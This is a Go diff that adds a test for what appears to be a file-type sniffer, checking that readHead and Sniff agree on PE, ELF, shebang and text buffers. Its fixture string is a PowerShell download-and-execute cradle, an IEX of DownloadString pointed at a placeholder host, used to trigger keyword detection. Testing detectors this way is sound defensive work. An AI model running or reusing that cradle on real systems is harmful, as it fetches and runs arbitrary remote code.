@@ -125,3 +125,55 @@ func FuzzScriptByKeywords(f *testing.F) {
 		}
 	})
 }
+
+// TestReadHead: Sniff finds the same in what readHead reads as in the
+// first headSize bytes, wherever the deciding bytes lie.
+func TestReadHead(t *testing.T) {
+	ps := "$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://x/a'))"
+	peAt := func(size, lfanew int) []byte {
+		b := bytes.Repeat([]byte{0}, size)
+		copy(b, "MZ")
+		b[0x3c], b[0x3d], b[0x3e] = byte(lfanew), byte(lfanew>>8), byte(lfanew>>16)
+		if lfanew+4 <= size {
+			copy(b[lfanew:], "PE\x00\x00")
+		}
+		return b
+	}
+	text := func(size int, at int, s string) []byte {
+		b := bytes.Repeat([]byte("lorem ipsum "), size/12+1)[:size]
+		copy(b[at:], s)
+		return b
+	}
+	cases := map[string][]byte{
+		"pe header in probe":        peAt(8000, 0x80),
+		"pe header past probe":      peAt(20000, 10000),
+		"pe header past head":       peAt(70000, 66000),
+		"keywords past probe":       text(20000, 10000, ps),
+		"keywords in probe":         text(20000, 100, ps),
+		"keywords past head":        text(100000, 70000, ps),
+		"nul past probe":            append(text(10000, 100, ps), 0),
+		"nul in probe":              append([]byte{0}, text(10000, 9000, ps)...),
+		"short":                     []byte(ps),
+		"exactly the probe":         text(headProbe, headProbe-len(ps), ps),
+		"probe plus one":            text(headProbe+1, headProbe+1-len(ps), ps),
+		"elf with keywords after":   append([]byte("\x7fELF\x02\x01\x01\x00"), text(10000, 9000, ps)...),
+		"shebang with nul after":    append([]byte("#!/bin/sh\n"), bytes.Repeat([]byte{0}, 9000)...),
+		"binary, keywords past nul": append(append([]byte("\x01\x02\x00\x03"), bytes.Repeat([]byte{'x'}, 5000)...), ps...),
+	}
+	buf := make([]byte, headSize)
+	for name, b := range cases {
+		n, err := readHead(bytes.NewReader(b), buf)
+		if err != nil {
+			t.Fatal(name, err)
+		}
+		full := b[:min(len(b), headSize)]
+		if !bytes.Equal(buf[:n], full[:n]) {
+			t.Fatalf("%s: read the wrong bytes", name)
+		}
+		got, want := Sniff(buf[:n], bytes.NewReader(b), int64(len(b))), Sniff(full, bytes.NewReader(b), int64(len(b)))
+		if got.Name != want.Name || got.Class != want.Class {
+			t.Errorf("%s: %+v from %d bytes, %+v from %d", name, got, n, want, len(full))
+		}
+		t.Logf("%s: read %d, %q", name, n, got.Name)
+	}
+}
